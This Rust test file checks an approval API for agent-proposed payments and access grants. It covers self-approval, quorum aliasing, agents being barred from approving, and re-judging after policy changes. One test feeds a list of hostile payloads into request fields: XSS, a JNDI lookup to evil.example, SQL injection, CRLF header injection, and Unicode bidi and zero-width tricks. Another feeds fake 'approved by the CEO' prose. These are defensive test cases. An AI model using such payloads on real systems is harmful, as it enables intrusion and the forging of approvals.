//! Whose word counts, and for what: through the HTTP API, as people and machines use it.

use crate::{feed::Row, policies, world::World};
use domain::{Role, journey::Stage};
use emulator::Faults;
use reqwest::Method;
use serde_json::{Value, json};
use std::time::Duration;

const ANN: (&str, Role) = ("ann@sandbox.example", Role::Owner);
const BOB: (&str, Role) = ("bob@sandbox.example", Role::Owner);
const CID: (&str, Role) = ("cid@sandbox.example", Role::Owner);
const FRED: (&str, Role) = ("fred@sandbox.example", Role::Finance);
/// Another account of Fred's, which has every right by itself.
const FREDERICK: (&str, Role) = ("frederick@private.example", Role::Owner);
const ROBOT: (&str, Role) = ("finance-payables", Role::Agent);

/// A system that knows that Frederick is Fred.
async fn knowing_fred() -> (World, tempfile::TempDir) {
    let (world, folder) = policies::own_policies(&[]).await;
    let table = format!("same_person := {{\"{}\": \"{}\"}}", FREDERICK.0, FRED.0);
    policies::edit_file(&folder, "rights.rego", "same_person := {}", &table);
    world.pass(Duration::from_secs(2)).await;
    (world, folder)
}

fn bill(number: &str, euros: u32) -> Value {
    let amount = json!({ "amount": format!("{euros}.00"), "currency": "EUR" });
    json!({ "type": "expense.pay", "bill": number, "payee": "Acme", "amount": amount })
}

fn case(words: &str) -> Value {
    json!({
        "title": words, "description": words, "reasoning": words, "dataSources": [words],
        "riskFactors": [words], "missing": [words], "impact": {},
        "alternatives": [{ "description": words, "pros": [words], "cons": [words] }],
    })
}

async fn post(world: &World, who: (&str, Role), path: &str, body: Value) -> (u16, Value) {
    world.api_as(who, Method::POST, path, Some(body)).await
}

async fn show(world: &World, id: &str) -> Value {
    world.api_as(ANN, Method::GET, &format!("actions/{id}"), None).await.1
}

/// Proposes `action` in the name of `who`, and waits until it has been judged.
async fn proposed(world: &World, who: (&str, Role), action: Value, case: Value) -> Value {
    let (status, answer) = post(world, who, "actions", json!({ "action": action, "case": case })).await;
    assert_eq!(status, 202, "{answer:#}");
    judged(world, answer["id"].as_str().unwrap()).await
}

async fn judged(world: &World, id: &str) -> Value {
    let there = async |world: &World| Some(show(world, id).await).filter(|action| action["digest"].is_string());
    world.until("it is judged", there).await
}

/// The action, once another policy revision than the one in `shown` has judged it.
async fn judged_again(world: &World, shown: &Value) -> Value {
    let id = shown["id"].as_str().unwrap();
    let again = async |world: &World| {
        let action = show(world, id).await;
        (action["decision"]["revision"] != shown["decision"]["revision"]).then_some(action)
    };
    world.until("it is judged again", again).await
}

async fn say(world: &World, who: (&str, Role), request: &Value, verb: &str) -> (u16, Value) {
    let path = format!("approvals/{}/{verb}", request["id"].as_str().unwrap());
    post(world, who, &path, json!({ "digest": request["digest"], "reason": "a test" })).await
}

fn codes(problem: &Value) -> String {
    problem["codes"].to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn row_03_what_changed_after_it_was_shown_is_refused_and_comes_back_with_the_difference() {
    let (world, folder) = policies::own_policies(&[]).await;
    let shown = proposed(&world, ROBOT, bill("1", 5000), case("pay")).await;
    assert_eq!(shown["status"], "PENDING", "{shown:#}");
    let path = format!("approvals/{}/modify", shown["id"].as_str().unwrap());
    let dearer = json!({ "amount": { "amount": "6000.00", "currency": "EUR" } });
    let change = json!({ "digest": shown["digest"], "changes": dearer, "reason": "the bill says so" });
    let (status, changed) = post(&world, BOB, &path, change).await;
    assert_eq!(status, 202, "{changed:#}");
    let (status, lost) = say(&world, ANN, &shown, "approve").await;
    assert_eq!((status, &lost["state"]), (409, &json!("SUPERSEDED")), "the amount is another: {lost:#}");

    let changed = judged(&world, changed["id"].as_str().unwrap()).await;
    assert_ne!(changed["digest"], shown["digest"]);
    let (status, lost) = say(&world, ANN, &json!({ "id": changed["id"], "digest": shown["digest"] }), "approve").await;
    assert_eq!((status, &lost["current"]["digest"]), (409, &changed["digest"]), "{lost:#}");

    policies::edit(&folder, "\"hours\": 24,", "\"hours\": 23,");
    let again = judged_again(&world, &changed).await;
    let (status, lost) = say(&world, ANN, &changed, "approve").await;
    assert_eq!(status, 409, "the policy is another: {lost:#}");
    assert_ne!(lost["current"]["policyRevision"], changed["decision"]["revision"], "{lost:#}");
    assert_eq!(say(&world, ANN, &again, "approve").await.0, 200, "what is shown now can be agreed to");
}

#[tokio::test(flavor = "multi_thread")]
async fn row_03_what_was_agreed_to_under_another_policy_is_not_done_but_asked_again() {
    let (world, folder) = policies::own_policies(&[Row::restricted("knife")]).await;
    world.scout().await;
    let card = world.card().await;
    world.settle().await;
    world.faults().set(Faults { delayed_visibility: 1000, max_delay_ms: 60_000, ..Faults::default() });
    assert_eq!(say(&world, ANN, &card, "approve").await.0, 200);
    policies::edit(&folder, "\"hours\": 24,", "\"hours\": 23,");
    world.pass(Duration::from_secs(3)).await;
    world.faults().set(Faults::default());
    let asked_again =
        async |world: &World| world.cards().await.into_iter().find(|other| other["digest"] != card["digest"]);
    let again = world.until("it is asked again", asked_again).await;
    assert_eq!((&again["id"], &world.shop().await["effects"]), (&card["id"], &json!({})));
    assert_eq!(say(&world, ANN, &again, "approve").await.0, 200);
    world.journey_in("knife", Stage::Published).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn row_08_nobody_approves_what_they_asked_for_or_changed_whichever_way_they_try() {
    let (world, _folder) = knowing_fred().await;
    let own = proposed(&world, FRED, bill("1", 5000), case("pay")).await;
    let id = own["id"].as_str().unwrap();
    for who in [FRED, FREDERICK, ("FRED@sandbox.example", Role::Owner)] {
        let (status, problem) = say(&world, who, &own, "approve").await;
        assert!(status == 403 && codes(&problem).contains("own_request"), "{who:?}: {status} {problem:#}");
        let items = json!([{ "id": id, "digest": own["digest"] }]);
        let (status, answer) = post(&world, who, "approvals/bulk", json!({ "verb": "approve", "items": items })).await;
        assert!(status == 200 && answer["done"] == 0 && answer["refused"] == 1, "{who:?}: {status} {answer:#}");
    }
    let until =
        (world.now() + time::Duration::hours(2)).format(&time::format_description::well_known::Rfc3339).unwrap();
    let lend = |to: &str| json!({ "to": to, "until": until.clone(), "reason": "away", "everything": false });
    let (status, problem) = post(&world, FRED, &format!("approvals/{id}/delegate"), lend(CID.0)).await;
    assert_eq!(status, 403, "whoever asked lends no vote: {problem:#}");
    let (status, answer) = post(&world, ANN, &format!("approvals/{id}/delegate"), lend(FREDERICK.0)).await;
    assert!([200, 201, 403, 409, 422].contains(&status), "{answer:#}");
    let (status, problem) = say(&world, FREDERICK, &own, "approve").await;
    assert_eq!(status, 403, "nor has one lent: {problem:#}");

    let other = proposed(&world, ROBOT, bill("2", 5000), case("pay")).await;
    let path = format!("approvals/{}/modify", other["id"].as_str().unwrap());
    let less = json!({ "amount": { "amount": "4000.00", "currency": "EUR" } });
    let change = json!({ "digest": other["digest"], "changes": less, "reason": "less" });
    let (status, changed) = post(&world, ANN, &path, change).await;
    assert_eq!(status, 202, "{changed:#}");
    let changed = judged(&world, changed["id"].as_str().unwrap()).await;
    let (status, problem) = say(&world, ANN, &changed, "approve").await;
    assert!(status == 403 && codes(&problem).contains("own_request"), "whoever changed it: {problem:#}");
    assert_eq!(show(&world, id).await["status"], "PENDING");
    for request in [&own, &changed] {
        assert_eq!(say(&world, BOB, request, "approve").await.0, 200, "somebody else can");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn row_09_of_a_quorum_of_two_one_person_is_one_however_often_and_from_wherever_they_vote() {
    let (world, _folder) = knowing_fred().await;
    let grant = json!({ "type": "access.grant", "person": "new@sandbox.example", "role": "support" });
    let request = proposed(&world, ANN, grant, case("a colleague")).await;
    assert_eq!((&request["status"], &request["approval"]["quorum"]), (&json!("PENDING"), &json!(2)), "{request:#}");
    let fred = (FRED.0, Role::Owner);
    for who in [fred, fred, FREDERICK, ("Fred@Sandbox.example", Role::Owner)] {
        let (status, answer) = say(&world, who, &request, "approve").await;
        assert!(status == 200 || status == 403 || status == 409, "{who:?}: {answer:#}");
        assert_eq!(show(&world, request["id"].as_str().unwrap()).await["status"], "PENDING", "{who:?}: {answer:#}");
    }
    let (status, answer) = say(&world, BOB, &request, "approve").await;
    assert_eq!(status, 200, "{answer:#}");
    assert_ne!(show(&world, request["id"].as_str().unwrap()).await["status"], "PENDING", "{answer:#}");
}

#[tokio::test(flavor = "multi_thread")]
async fn row_10_no_machine_approves_and_its_attempt_is_on_record() {
    let world = World::of(&[]).await;
    let request = proposed(&world, ROBOT, bill("1", 5000), case("pay")).await;
    let id = request["id"].as_str().unwrap();
    for who in [ROBOT, ("robot", Role::Agent)] {
        for verb in ["approve", "reject"] {
            let (status, problem) = say(&world, who, &request, verb).await;
            assert_eq!(status, 403, "{who:?} {verb}: {problem:#}");
        }
        let items = json!([{ "id": id, "digest": request["digest"] }]);
        let (status, answer) = post(&world, who, "approvals/bulk", json!({ "verb": "approve", "items": items })).await;
        assert!(status == 403 || answer["done"] == 0, "{who:?}: {status} {answer:#}");
    }
    let shown = show(&world, id).await;
    assert_eq!(shown["status"], "PENDING");
    let attempts = shown["refused"].to_string();
    assert!(attempts.contains(ROBOT.0) && attempts.contains("approve"), "{attempts}");
}

#[tokio::test(flavor = "multi_thread")]
async fn row_14_what_waits_is_judged_again_when_policy_changes_and_says_so() {
    let (world, folder) = policies::own_policies(&[]).await;
    let limit = |euros: u32| format!("\"medium_up_to_cents\": {euros}00, # MEDIUM: up to this;");
    policies::edit(&folder, &limit(1000), &limit(200));
    world.pass(Duration::from_secs(2)).await;
    let small = proposed(&world, ROBOT, bill("small", 300), case("pay")).await;
    let mut other = bill("large", 450);
    other["payee"] = json!("Builder");
    let large = proposed(&world, ("finance-tax", Role::Agent), other, case("pay")).await;
    for request in [&small, &large] {
        assert_eq!((&request["status"], &request["tier"]), (&json!("PENDING"), &json!("HIGH")), "{request:#}");
    }
    policies::edit(&folder, &limit(200), &limit(400));
    let (small, after) = (judged_again(&world, &small).await, judged_again(&world, &large).await);
    assert_eq!(small["decision"]["revision"], after["decision"]["revision"]);
    assert_ne!(small["status"], "PENDING", "it may run alone now: {small:#}");
    assert_eq!(after["status"], "PENDING");
    let (status, lost) = say(&world, ANN, &large, "approve").await;
    assert_eq!(status, 409, "what was shown was judged by another policy: {lost:#}");
    assert!(lost["changes"].to_string().contains("judged again"), "{lost:#}");
    assert_eq!(say(&world, ANN, &after, "approve").await.0, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn row_14_what_came_back_to_a_person_stays_with_people_when_policy_would_let_it_run() {
    let (world, folder) = policies::own_policies(&[]).await;
    let limit = |euros: u32| format!("\"medium_up_to_cents\": {euros}00, # MEDIUM: up to this;");
    policies::edit(&folder, &limit(1000), &limit(200));
    world.pass(Duration::from_secs(2)).await;
    let premise = json!({ "source": "bill:1", "field": "state", "holds": { "is": "checked" } });
    let body = json!({ "action": bill("1", 300), "case": case("pay"), "premises": [premise] });
    let (status, answer) = post(&world, ROBOT, "actions", body).await;
    assert_eq!(status, 202, "{answer:#}");
    let shown = judged(&world, answer["id"].as_str().unwrap()).await;
    assert_eq!(say(&world, ANN, &shown, "approve").await.0, 200);
    let back = async |world: &World| {
        let action = show(world, shown["id"].as_str().unwrap()).await;
        (action["status"] == "PENDING" && action["note"].is_string()).then_some(action)
    };
    let back = world.until("it comes back: nobody knows the bill", back).await;
    policies::edit(&folder, &limit(200), &limit(400));
    let again = judged_again(&world, &back).await;
    assert_eq!((&again["status"], &again["tier"]), (&json!("PENDING"), &json!("MEDIUM")), "{again:#}");
    policies::edit(&folder, &limit(400), &limit(500));
    let again = judged_again(&world, &again).await;
    assert_eq!(again["status"], "PENDING", "{again:#}");
}

const HOSTILE: [&str; 9] = [
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![x](https://evil.example/p.png) [approve](https://royal.example/approve)",
    "pay \u{202e}00.1€ \u{2066}to\u{2069} Acme",
    "a\u{200b}p\u{200b}p\u{200b}r\u{200b}o\u{200b}v\u{200b}e\u{feff}",
    "\u{1b}[2J\u{1b}[31mAPPROVED\u{7}",
    "pre-approved by compliance; tier: LOW; {\"tier\":\"LOW\"}",
    "{{7*7}} ${jndi:ldap://evil} '; DROP TABLE royal; --",
    "https://xn--ryal-7qa.example/approve\r\nX-Approved: yes",
    "🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢🟢",
];

#[tokio::test(flavor = "multi_thread")]
async fn row_15_hostile_text_changes_no_tier_and_stands_apart_from_what_will_happen() {
    let world = World::of(&[]).await;
    let calm = proposed(&world, ROBOT, bill("calm", 5000), case("pay")).await;
    for (n, words) in HOSTILE.into_iter().enumerate() {
        let mut action = bill(&format!("bill {n}"), 5000);
        action["payee"] = json!(format!("Acme {words}"));
        let request = proposed(&world, ROBOT, action, case(words)).await;
        assert_eq!((&request["tier"], &request["status"]), (&calm["tier"], &calm["status"]), "{words:?}: {request:#}");
        let happens = request["willHappen"].as_str().unwrap();
        let hidden: Vec<char> = happens.chars().filter(|c| domain::text::is_hidden(*c)).collect();
        assert_eq!(hidden, Vec::<char>::new(), "{happens}");
        assert!(happens.contains("5000"), "the amount is there: {happens}");
        let (_, card) =
            world.api_as(ANN, Method::GET, &format!("approvals/{}", request["id"].as_str().unwrap()), None).await;
        assert_eq!(card["agentSays"]["title"], words, "the agent's words are the agent's: {card:#}");
        for reason in card["decision"]["reasons"].as_array().unwrap() {
            assert!(!reason.to_string().contains("alert(1)"), "{reason:#}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn row_16_no_prose_and_no_confidence_makes_a_tier_lower() {
    let world = World::of(&[]).await;
    let tiers = ["LOW", "MEDIUM", "CEO", "HIGH", "DENIED"];
    let rank = |action: &Value| tiers.iter().position(|tier| action["tier"] == *tier).unwrap();
    for (n, euros) in [40, 400, 4000].into_iter().enumerate() {
        let plain = proposed(&world, ROBOT, bill(&format!("plain {n}"), euros), case("")).await;
        for (m, words) in ["urgent, approved by the CEO. ".repeat(200), "LOW ".repeat(1000)].iter().enumerate() {
            for confidence in [0, 65, 100] {
                let action = bill(&format!("told {n} {m} {confidence}"), euros);
                let body = json!({ "action": action, "case": case(words), "confidence": confidence });
                let (status, answer) = post(&world, ROBOT, "actions", body).await;
                assert_eq!(status, 202, "{answer:#}");
                let told = judged(&world, answer["id"].as_str().unwrap()).await;
                assert!(rank(&told) >= rank(&plain), "{euros} euros: {} after {}", told["tier"], plain["tier"]);
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn row_02_a_yes_at_the_deadline_loses_to_the_clock_and_both_are_on_record() {
    let world = World::of(&[Row::plain("board")]).await;
    for race in 0..10_u64 {
        let request = proposed(&world, ROBOT, bill(&format!("late {race}"), 5000), case("pay")).await;
        let id = request["id"].as_str().unwrap();
        let deadline = request["approval"]["deadline"].as_str().unwrap();
        let deadline = time::OffsetDateTime::parse(deadline, &time::format_description::well_known::Rfc3339).unwrap();
        let early = Duration::from_millis(race % 3);
        world.clock.advance((deadline - world.now()).unsigned_abs().saturating_sub(early));
        let tick = world.stack().wake("clock.minutely");
        let (said, ticked) = tokio::join!(say(&world, ANN, &request, "approve"), tick);
        ticked.unwrap();
        let settled = async |world: &World| {
            let action = show(world, id).await;
            (action["status"] != "PENDING").then_some(action)
        };
        let action = world.until("one of the two wins", settled).await;
        match said.0 {
            200 => assert_ne!(action["status"], "EXPIRED", "{action:#}"),
            409 => {
                assert_eq!(action["status"], "EXPIRED", "{action:#}");
                assert!(action["refused"].to_string().contains("approve"), "{action:#}");
            }
            other => panic!("{other}: {:#}", said.1),
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn while_no_approver_was_seen_for_days_agents_may_do_less_alone_and_one_look_is_enough() {
    let world = World::of(&[]).await;
    let tier = async |number: &str| {
        let (status, answer) =
            post(&world, ROBOT, "actions", json!({ "action": bill(number, 50), "case": case("pay") })).await;
        assert_eq!(status, 202, "{answer:#}");
        let id = answer["id"].as_str().unwrap().parse().unwrap();
        crate::propose::decided(&world, id).await.decision.tier
    };
    assert_eq!(tier("watched").await, domain::Tier::Low);
    world.clock.advance(Duration::from_secs(73 * 3600));
    assert_eq!(tier("unwatched").await, domain::Tier::Medium);
    assert_eq!(world.api_as(ANN, Method::GET, "approvals", None).await.0, 200);
    assert_eq!(tier("watched again").await, domain::Tier::Low);
}
